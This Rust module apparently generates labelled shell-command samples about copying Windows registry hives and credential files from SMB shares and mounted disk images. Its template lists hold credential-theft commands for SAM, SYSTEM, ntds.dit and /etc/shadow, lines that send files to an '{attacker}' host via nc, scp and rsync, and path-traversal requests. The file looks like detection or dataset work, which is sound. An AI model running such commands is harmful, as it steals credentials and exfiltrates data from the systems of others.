//! The hive files taken from a Unix shell: shares, mounted disks, images.

use crate::generate::family::{Family, Kind::Sh};

const SHARES: &[&str] = &[
    concat!(
        r"smbclient «//¦\\\\\\\\»{rhost}/C$ -U «'{domain}/{user}%{password}'¦{user}%{password}¦",
        r#"{user}» -c «'get {w}¦"get {w}»« {stem}»«'¦"»"#,
    ),
    r"smbclient //{rhost}/C$ -U {user}%{password} -c 'cd {wd}; get {wf}'",
    r"smbclient.py {target}⏎use C$⏎cd {wd}⏎get {wf}",
    r"smbget -U {user}%{password} smb://{rhost}/C$/{w}",
    r"smbmap -H {rhost} -u {user} -p {password} --download 'C$\{wb}'",
    r"mount -t cifs //{rhost}/C$ /mnt/c -o username={user},password={password} && cp /mnt/c/{w} {shdir}",
    r"curl -u '{domain}\{user}:{password}' «smb://{rhost}/C$/{w} -o {stem}¦'smb://{rhost}/C$/{w}'»",
    r"nxc smb {rhost} -u {user} -p {password} --get-file '\{wb}' {stem}",
    r"rclone copy smb:{rhost}/C$/{w} .",
];
const DISKS: &[&str] = &[
    r"cp« -v¦ -r¦ -p» {f} {shout}",
    r"sudo cp {f} .",
    r"sudo mount -o ro«,loop» /dev/«sda{1..3}¦nvme0n1p3¦nbd0p2» /mnt/windows« && ¦; ¦⏎»cp {f} {shdir}",
    r"guestmount --add {stem}.«vhd¦vhdx¦vmdk¦qcow2» --inspector --ro {lxroot}«; ¦ && ¦⏎»cp {f} {shout}",
    r"guestmount -a {stem}.vhd -m /dev/sda«1¦2» --ro /mnt/vhd && cp {f} .",
    r"7z «x¦e¦l» {stem}.vhd {f2}",
    r"virt-copy-out -a {stem}.qcow2 {f2} {shdir}",
    r"guestfish --ro -a {stem}.vmdk -i «download¦copy-out» {f2} {shout}",
    r"ntfs-3g -o ro /dev/sdb1 /mnt/win; cat {f} > {shout}",
    r"dd if={f} of={shout}",
    r"ntfscat /dev/sda{1..3} {f2} > {shout}",
    r"rsync -av {f} {user}@{attacker}:{shdir}",
    r"tar czf {stem}.tgz {f}",
    r"scp {f} {user}@{attacker}:/tmp/",
    r"base64 {f} > {shout}",
    r"cat {f} | nc {attacker} {port}",
    r"xxd {f} | head",
    r"strings {f} | less",
    r"zip -r {stem}.zip {f}",
    r"cp {f} /tmp/{stem} && chmod 644 /tmp/{stem}",
    r"target-query {stem}.vmdk; cp {f} {shdir}",
    r"dislocker -V /dev/sda3 -p -- /mnt/bl && mount -o loop /mnt/bl/dislocker-file {lxroot} && cp {f} .",
    r"icat -o {2048..206848} {stem}.dd {40000..90000} > {shout} # {f2}",
    r"wget http://{rhost}/..%2f..%2f..%2f{f2}",
    r"curl --path-as-is http://{rhost}:{port}/../../../../{f2} -o {stem}",
    r"curl 'http://{rhost}/index.php?page=../../../../../../{f2}'",
    r"curl -s http://{rhost}/download?file=c:/{f2}",
    r"for f in {f} {f}; do cp $f {shdir}; done",
];

pub const FAMILIES: &[Family] = &[
    Family::act("smb-share", "share-hive-file", "share-other-file", Sh, SHARES).slots(&[("w", "Windows/System32/config/«{whole}¦SAM¦RegBack/SAM»"), ("wd", "Windows/System32/config"), ("wf", "«SAM¦SYSTEM¦SECURITY¦sam»"), ("wb", r"Windows\System32\config\{whole}")]).weight(10),
    Family::other("smb-share", "share-other-file", Sh, SHARES).slots(&[("w", concat!(
            "«Windows/NTDS/ntds.dit¦Users/{user}/Desktop/{stem}.txt¦Windows/System32/drivers/etc/hosts¦",
            "Windows/System32/config/SOFTWARE¦inetpub/wwwroot/web.config¦backup/{stem}.zip»",
        )), ("wd", "«Users/{user}/Documents¦backup¦Windows/NTDS¦inetpub»"), ("wf", "«{stem}.{anyext}¦ntds.dit¦web.config¦sam.txt»"), ("wb", r"«Users\{user}\Desktop\{stem}.txt¦Windows\NTDS\ntds.dit¦Windows\Panther\unattend.xml»")]).weight(12),
    Family::act("mounted-disk", "mounted-hive-file", "mounted-other-file", Sh, DISKS).slots(&[("f", "{lxhive}"), ("f2", "«/Windows/System32/config/{whole}¦Windows/System32/config/SAM¦/WINDOWS/system32/config/{secret}»")]).weight(14),
    Family::other("mounted-disk", "mounted-other-file", Sh, DISKS).slots(&[("f", "{lxother}"), ("f2", concat!(
            "«/Windows/NTDS/ntds.dit¦/Windows/System32/config/SOFTWARE¦/etc/passwd¦/etc/shadow¦",
            "Users/{user}/NTUSER.DAT¦/Windows/win.ini¦Windows/System32/drivers/etc/hosts»",
        ))]).weight(16),
];
